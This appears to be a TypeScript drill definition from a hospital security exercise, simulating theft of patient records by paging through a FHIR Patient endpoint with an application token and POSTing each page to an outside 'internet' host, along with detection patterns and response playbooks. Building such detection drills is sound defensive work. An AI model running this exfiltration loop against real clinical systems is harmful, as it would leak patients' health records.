import { PLACES } from '../hospital/places.ts';
import type { Drill } from './drill.ts';

const PAGES = 8;

/** Records are read page by page with the token of an application, and sent to a server on the internet. */
export const dataTheft: Drill = {
  id: 'data-theft',
  title: 'Records of patients are read in bulk and sent to the internet',
  useCase: '4 Data theft through vulnerable software',
  from: PLACES.station2,
  targets: [PLACES.masters],
  mustDetect: /FHIR|patient|internet/i,
  playbooks: [/^Data is stolen/, /^Patient data is uploaded/, /^Isolate/, /^Micro/],
  steps: 60,
  everyMs: 400,
  async step(number) {
    const signal = AbortSignal.timeout(3000);
    const page = await fetch(`http://${PLACES.record.ip}:8080/fhir/Patient?_offset=${(number % PAGES) * 50}`, {
      headers: { authorization: 'Bearer ward-token' },
      signal,
    });
    const body = await page.text();
    const sent = await fetch(`http://${PLACES.masters.ip}/up/${number}`, { method: 'POST', body, signal });
    return sent.ok;
  },
};
